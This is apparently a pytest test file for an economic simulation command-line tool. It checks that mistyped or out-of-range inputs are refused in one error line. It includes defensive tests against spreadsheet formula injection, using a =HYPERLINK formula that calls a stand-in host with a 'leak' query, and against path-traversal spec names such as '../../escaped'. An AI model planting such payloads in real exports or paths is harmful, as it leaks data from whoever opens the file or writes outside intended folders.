"""Inputs of the wrong kind or outside their domain, through the real command line: refused in one
line, exit code 2, before any work (the hostile review's findings on input validation).

The cases run ``python -m ecosim`` as tests/test_hostile.py does (its helpers, the same
address-space guard) and check what a user sees.
"""

from __future__ import annotations

import json
import socket
from pathlib import Path

import pytest
from helpers import ROOT, TINY
from test_hostile import PEAK_RSS_MB, assert_one_error_line, ecosim, real_spec, tiny_variant, write

# --- wrong kinds: nothing is coerced ------------------------------------------------------------


@pytest.mark.parametrize(
    ("extra", "starts", "fragment"),
    [
        ("initial_firms: true\n", "initial_firms: ", "input should be a valid integer, got True"),
        ("initial_firms: 10.0\n", "initial_firms: ", "input should be a valid integer, got 10.0"),
        ("factors: {information: true}\n", "factors.information: ", "valid number, got True"),
        ('labour_mobility: "1.5"\n', "labour_mobility: ", "valid number, got '1.5'"),
        (
            'institutions:\n  - {name: U, kind: university, lat: "32.88", lon: -117.234}\n'
            "anchors: []\nevents: []\n",
            "institutions[0].lat: ",
            "valid number, got '32.88'",
        ),
        (
            "hubs:\n  - {name: Hub, lat: 32.88, lon: -117.22, founded: 1983, operates_site: 1}\n",
            "hubs[0].operates_site: ",
            "valid boolean, got 1",
        ),
        (
            'hubs:\n  - {name: Hub, lat: 32.88, lon: -117.22, founded: 1983, operates_site: "yes"}\n',
            "hubs[0].operates_site: ",
            "valid boolean, got 'yes'",
        ),
        (
            'levers:\n  lever: {name: L, year: 1985, enabled: "on"}\n',
            "levers.lever.enabled: ",
            "valid boolean, got 'on'",
        ),
        # Two entries for one year, one of them silently dropped before.
        (
            'factors: {hub_leadership: {1980: 0.2, "1980": 0.6}}\n',
            "factors.hub_leadership.1980: ",
            "the key '1980': input should be a valid integer (a year is written 2019, not '2019')",
        ),
        (
            "incubators:\n  - {name: Labs, lat: 32.89, lon: -117.22, opened: 1985, seats: 10,\n"
            '     seed_cheque_musd: {amount: "1", currency: USD, year: 1990}}\n',
            "incubators[0].seed_cheque_musd: ",
            "amount must be a number, got '1'",
        ),
    ],
)
def test_a_value_of_the_wrong_kind_is_refused_not_coerced(tmp_path, extra, starts, fragment):
    bad = tiny_variant(tmp_path, extra)
    assert_one_error_line(ecosim("validate", str(bad)), f"{bad}: {starts}", fragment)


def test_whole_numbers_still_stand_for_floats(tmp_path):
    fine = tiny_variant(
        tmp_path, "labour_mobility: 1\nfactors: {information: 1, hub_leadership: {1980: 0}}\n"
    )
    done = ecosim("validate", str(fine))
    assert done.returncode == 0, done.stderr


def test_a_bool_seed_in_a_spec_is_refused(tmp_path):
    spec = real_spec(tmp_path, root_seed=True)
    done = ecosim("sweep", str(spec), "--out", str(tmp_path / "o"))
    assert_one_error_line(done, f"{spec}: root_seed: ", "valid integer, got True")
    assert not (tmp_path / "o").exists()


def test_the_tiny_scenario_is_still_valid():
    assert ecosim("validate", str(TINY)).returncode == 0


# --- constants outside their domain -------------------------------------------------------------


def test_a_zero_multiple_in_a_sweep_is_refused_before_any_run(tmp_path):
    """It ran before, dividing by zero in the round market and closing rounds that raised nothing."""
    design = {
        "type": "arms",
        "arms": [{"name": "baseline"}, {"name": "x", "set": {"constants.early_round_multiple": 0}}],
    }
    spec = real_spec(tmp_path, design=design)
    done = ecosim("sweep", str(spec), "--out", str(tmp_path / "o"), "--workers", "1")
    assert_one_error_line(
        done, f"{spec}: design: ", "arm 'x': constants.early_round_multiple: must be greater than 0"
    )
    assert not (tmp_path / "o").exists()


def test_a_share_above_one_in_a_spec_is_refused(tmp_path):
    spec = real_spec(tmp_path, constants={"medtech_share": 5})
    done = ecosim("sweep", str(spec), "--out", str(tmp_path / "o"), "--workers", "1")
    assert_one_error_line(
        done,
        f"{spec}: constants: ",
        "constants.medtech_share: must be at most 1 (a share, odds or a quality), got 5",
    )
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize(
    ("setting", "fragment"),
    [
        ("medtech_share=5", "constants.medtech_share: must be at most 1"),
        ("early_round_end=0", "constants.early_round_end: must be a calendar year, 1900-2100, got 0"),
    ],
)
def test_calibrate_holds_no_constant_outside_its_domain(tmp_path, setting, fragment):
    done = ecosim("calibrate", "--quick", "--set", setting, "--out", str(tmp_path / "o"), cwd=tmp_path)
    assert_one_error_line(done, "--set: ", fragment)
    assert not (tmp_path / "o").exists()


# --- sensitivity --quick: its budget bounded as the full one is ---------------------------------


def sensitivity_spec(tmp_path, **fields) -> Path:
    """A small sensitivity spec on the tiny scenario, ``fields`` replacing its own."""
    spec = {
        "name": "h05",
        "base": str(TINY),
        "until": 1981,
        "root_seed": 1,
        "outputs": ["startups_founded"],
        "parameters": {
            "factors.information": {"low": 0.1, "high": 0.6},
            "factors.diverse_players": {"low": 0.1, "high": 0.6},
        },
        "replications": 2,
        "morris": {"trajectories": 2},
        "sobol": {"samples": 4, "top": 2},
        **fields,
    }
    return write(tmp_path / "h05.yaml", json.dumps(spec))


@pytest.mark.parametrize(
    ("quick", "field", "fragment"),
    [
        # SALib sampled 3,000,000 Morris points (82 s, 1.16 GB) before the sweep's limit refused them.
        ({"trajectories": 1000000, "replications": 1}, "quick.trajectories: ", "must be <= 1000"),
        ({"samples": 3}, "quick.samples: ", "must be a power of two (Sobol sequences), got 3"),
        # Within each bound, past the sweep's limit on runs: refused before sampling too.
        ({"trajectories": 900, "replications": 1000}, "quick.replications: ", "limits.MAX_SWEEP_RUNS"),
    ],
)
def test_a_quick_budget_is_refused_as_the_full_one_would_be(tmp_path, quick, field, fragment):
    path = sensitivity_spec(tmp_path, quick=quick)
    out, runs = tmp_path / "out", tmp_path / "runs"
    done = ecosim(
        "sensitivity", str(path), "--quick", "--out", str(out), "--runs", str(runs), "--workers", "1"
    )
    assert_one_error_line(done, f"{path}: {field}", fragment)
    assert done.peak_mb < PEAK_RSS_MB and done.seconds < 60
    assert not out.exists() and not runs.exists()


# --- a region where nothing can settle ----------------------------------------------------------

OPEN_SEA = """name: Open sea
start_year: 2018
end_year: 2020
initial_firms: 1
region: {origin_lat: 0, origin_lon: -140, width_km: 50, height_km: 50}
"""
ISLAND_SITE = "institutions:\n  - {name: Uni, kind: university, lat: 0.2, lon: -139.8, talent_per_year: 10}\n"


def test_a_region_without_land_or_a_named_site_is_refused_by_validate_and_run(tmp_path):
    """validate said ok, then run stopped with a traceback at its first settler (nearest_land)."""
    sea = write(tmp_path / "noland.yaml", OPEN_SEA)
    fragment = "no land in it and no named site"
    assert_one_error_line(ecosim("validate", str(sea)), f"{sea}: region: ", fragment)
    done = ecosim("run", str(sea), "--until", "2019", "--out", str(tmp_path / "o"), "--quiet")
    assert_one_error_line(done, f"{sea}: region: ", fragment)
    assert not (tmp_path / "o").exists()


def test_a_region_without_land_is_refused_by_sweep_and_viz(tmp_path):
    """sweep ran every run to a traceback in errors/ (exit 1) and viz opened a page whose first
    run stopped: both now refuse the region at the start, naming the file and where it is set."""
    sea = write(tmp_path / "noland.yaml", OPEN_SEA)
    fragment = "no land in it and no named site"
    design = {"type": "arms", "arms": [{"name": "baseline"}]}
    spec = real_spec(tmp_path, base=str(sea), until=2019, design=design)
    done = ecosim("sweep", str(spec), "--out", str(tmp_path / "runs"), "--workers", "1", "--quiet")
    assert_one_error_line(done, f"{spec}: arm 'baseline': region: ", fragment)
    assert not (tmp_path / "runs").exists()
    harbour = write(tmp_path / "harbour.yaml", OPEN_SEA.replace("Open sea", "Harbour") + ISLAND_SITE)
    with socket.socket() as taken:  # a port in use: were the region not refused first, viz would
        taken.bind(("127.0.0.1", 0))  # stop at the port with another error, not serve a page
        taken.listen()
        port = str(taken.getsockname()[1])
        done = ecosim("viz", str(sea), "--port", port)
        assert_one_error_line(done, f"{sea}: region: ", fragment)
        done = ecosim("viz", str(harbour), "--compare", sea.name, "--port", port)
        assert_one_error_line(done, f"{sea}: region: ", fragment)


def test_a_named_site_at_sea_is_land_enough(tmp_path):
    """A named site counts as land around it (reclaimed land: Kobe's Port Island reads as water)."""
    done = ecosim("validate", str(write(tmp_path / "island.yaml", OPEN_SEA + ISLAND_SITE)))
    assert done.returncode == 0, done.stderr


# --- names a spreadsheet would run ----------------------------------------------------------------

INJECTED = '=HYPERLINK("http://example.invalid/?leak","click me")'


def test_an_arm_named_like_a_formula_is_text_in_the_report(tmp_path):
    """openpyxl stored the name as a live formula (Excel runs it on opening) and the CSVs carried
    it bare; now the workbook holds the text and the CSVs an apostrophe before it."""
    import openpyxl

    design = {
        "type": "arms",
        "arms": [{"name": "baseline"}, {"name": INJECTED, "set": {"factors.information": 0.9}}],
    }
    spec = real_spec(tmp_path, design=design, replications=2, description="=1+1")
    runs, report = tmp_path / "runs", tmp_path / "report"
    assert ecosim("sweep", str(spec), "--out", str(runs), "--workers", "1", "--quiet").returncode == 0
    done = ecosim("report", str(runs), "--out", str(report))
    assert done.returncode == 0, done.stderr
    book = openpyxl.load_workbook(report / "report.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert {cell.value for cell in cells} >= {INJECTED, "=1+1"}  # the names as they are, as text
    for name in ("arm_summary.csv", "run_metrics.csv", "vs_baseline.csv"):
        text = (report / name).read_text(encoding="utf-8-sig")
        assert "\n\"'=HYPERLINK(" in text and '\n"=HYPERLINK(' not in text, name


def test_a_firm_named_like_a_formula_is_neutralised_in_the_run_files(tmp_path):
    anchors = "anchors:\n  - {name: '@SUM(1+1)', year: 1980, institution: Tiny University}\nevents: []\n"
    scenario = tiny_variant(tmp_path, anchors)
    done = ecosim("run", str(scenario), "--until", "1981", "--out", str(tmp_path / "o"), "--quiet")
    assert done.returncode == 0, done.stderr
    firms = (tmp_path / "o" / "firms.csv").read_text(encoding="utf-8")
    assert ",'@SUM(1+1)," in firms and ",@SUM(1+1)," not in firms


# --- the command-line audit: repeated names, a spec's name, a folder's owner, empty options ------


def test_a_metric_listed_twice_is_refused_before_any_run(tmp_path):
    """``ecosim report`` failed on it with a TypeError (two columns of one name)."""
    spec = real_spec(tmp_path, metrics=["startups_founded", "startups_founded", "employment_end"])
    done = ecosim("sweep", str(spec), "--out", str(tmp_path / "o"))
    assert_one_error_line(done, f"{spec}: metrics[1]: ", "duplicate 'startups_founded' (already item 0)")
    assert not (tmp_path / "o").exists()


def test_a_lever_listed_twice_in_a_design_names_its_place(tmp_path):
    spec = real_spec(tmp_path, design={"type": "factorial", "levers": ["a", "b", "a"]})
    done = ecosim("sweep", str(spec), "--out", str(tmp_path / "o"))
    assert_one_error_line(done, f"{spec}: design.levers[2]: ", "duplicate 'a' (already item 0)")
    assert not (tmp_path / "o").exists()


def test_an_output_listed_twice_is_refused_before_any_run(tmp_path):
    path = sensitivity_spec(tmp_path, outputs=["startups_founded", "employment_end", "startups_founded"])
    out, runs = tmp_path / "out", tmp_path / "runs"
    done = ecosim("sensitivity", str(path), "--quick", "--out", str(out), "--runs", str(runs))
    assert_one_error_line(done, f"{path}: outputs[2]: ", "duplicate 'startups_founded' (already item 0)")
    assert not out.exists() and not runs.exists()


@pytest.mark.parametrize(
    ("window", "until", "field", "fragment"),
    [
        (
            {"start": 1960, "end": 1970},
            1981,
            "window.end",
            "ends in 1970, before the scenario's start_year 1980",
        ),
        (
            {"start": 2000, "end": 2005},
            None,
            "window.start",
            "starts in 2000, after the scenario's end_year 1990",
        ),
    ],
    ids=["before the start", "after the end"],
)
def test_a_window_outside_the_runs_is_refused_before_any_run(tmp_path, window, until, field, fragment):
    """The tiny scenario runs 1980-1990: a window outside it was accepted, its sums of no year."""
    spec = real_spec(tmp_path, window=window, until=until)
    out = tmp_path / "o"
    done = ecosim("sweep", str(spec), "--out", str(out), "--workers", "1", "--quiet")
    assert_one_error_line(done, f"{spec}: {field}: ", fragment, "nothing to compare")
    assert not out.exists()


@pytest.mark.parametrize("name", ["ABSOLUTE", "../../escaped", "..", "a/b"])
def test_a_spec_name_that_is_a_path_is_refused(tmp_path, name):
    """The name makes the default folder, runs/<name>: a path in it wrote the runs outside runs/."""
    if name == "ABSOLUTE":
        name = str(tmp_path / "elsewhere")
    work = tmp_path / "work" / "deep"
    work.mkdir(parents=True)
    spec = real_spec(tmp_path, name=name)
    done = ecosim("sweep", str(spec), "--workers", "1", "--quiet", cwd=work)
    assert_one_error_line(done, f"{spec}: name: ", "must be a folder name (it names runs/<name>)")
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["deep", "spec.yaml", "work"]


@pytest.mark.parametrize("name", ["..", "../escaped", "."])
def test_a_sensitivity_name_that_is_a_path_is_refused(tmp_path, name):
    """The name makes results/<name> and runs/<name>: '..' wrote the results into the project's root."""
    work = tmp_path / "work" / "deep"
    work.mkdir(parents=True)
    path = sensitivity_spec(tmp_path, name=name)
    done = ecosim("sensitivity", str(path), "--quick", "--workers", "1", "--quiet", cwd=work)
    assert_one_error_line(done, f"{path}: name: ", "must be a folder name (it names runs/<name>)")
    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")) == [
        path.name,
        "work",
        "work/deep",
    ]


@pytest.mark.parametrize(
    ("parameter", "bounds", "fragment"),
    [
        ("factors.nonexistent", (0.1, 0.6), "at 0.1: scenario field factors.nonexistent: unknown field"),
        ("constants.spinout_rate", (-5, 0.6), "at -5.0: constants.spinout_rate: must not be negative"),
    ],
)
def test_a_sensitivity_error_names_the_parameter_not_a_point(tmp_path, parameter, bounds, fragment):
    """The stage's sweep named its own point ('design: arm point00000'), which the spec never had."""
    low, high = bounds
    parameters = {"factors.information": {"low": 0.1, "high": 0.6}, parameter: {"low": low, "high": high}}
    path = sensitivity_spec(tmp_path, parameters=parameters)
    out, runs = tmp_path / "out", tmp_path / "runs"
    done = ecosim("sensitivity", str(path), "--quick", "--out", str(out), "--runs", str(runs), "--quiet")
    assert_one_error_line(done, f"{path}: parameters.{parameter}: ", fragment)
    assert not out.exists() and not runs.exists()


def test_a_sensitivity_error_not_of_a_parameter_keeps_its_own_field(tmp_path):
    """A base file missing fails every point alike: no parameter is blamed for it."""
    path = sensitivity_spec(tmp_path, base=str(tmp_path / "missing.yaml"))
    done = ecosim("sensitivity", str(path), "--quick", "--out", str(tmp_path / "o"), "--quiet")
    assert_one_error_line(done, f"{path}: base: file not found: ")


def test_a_sensitivity_window_past_its_runs_is_refused(tmp_path):
    """Its README stated the window as written, years after the runs' last."""
    path = sensitivity_spec(tmp_path, until=1981, window={"start": 1980, "end": 1985})
    out, runs = tmp_path / "out", tmp_path / "runs"
    done = ecosim("sensitivity", str(path), "--out", str(out), "--runs", str(runs), "--quiet")
    assert_one_error_line(done, f"{path}: window.end: must be <= until (1981): the runs stop there, got 1985")
    assert not out.exists() and not runs.exists()


def test_the_longest_sensitivity_name_still_names_its_stages(tmp_path):
    """A sensitivity stage is a sweep named <name>-quick-morris: the sweep's rule must admit it."""
    from ecosim import sensitivity

    path = sensitivity_spec(tmp_path, name="n" * 80)
    spec = sensitivity.read_spec(path, quick=True)
    names, unit = sensitivity.morris_design(spec)
    plan = sensitivity.stage_plan(spec, path, "morris", names, unit[: len(names) + 1], len(names) + 1)
    assert plan.spec.name == "n" * 80 + "-quick-morris"


def test_calibrate_refuses_to_install_a_quick_fit(tmp_path):
    """--install with --quick was ignored in silence (the help says never with --quick)."""
    out, store = tmp_path / "out", tmp_path / "store"
    where = ["--scenarios", str(ROOT / "scenarios"), "--out", str(out), "--store", str(store)]
    done = ecosim("calibrate", "--quick", "--install", *where, cwd=tmp_path)
    assert_one_error_line(done, "--install: ", "a quick fit (a smaller budget) is never installed")
    assert not out.exists() and not store.exists()
